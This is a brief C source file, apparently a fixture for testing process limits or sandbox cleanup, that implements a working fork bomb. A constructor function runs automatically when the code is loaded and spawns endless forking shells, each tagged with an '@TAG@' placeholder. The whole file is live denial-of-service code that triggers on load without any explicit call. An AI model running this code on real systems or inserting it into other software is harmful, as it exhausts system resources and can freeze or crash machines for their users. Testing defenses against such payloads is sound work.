/* A fork bomb; every process also carries the tag in its argv. */
#include <unistd.h>
__attribute__((constructor)) static void attack_fork_bomb(void)
{
	if (fork() == 0) {
		for (;;)
			if (fork() == 0)
				execl("/bin/sh", "sh", "-c", "while :; do sh -c ': @TAG@' & done; : @TAG@",
				      (char *)0);
	}
}
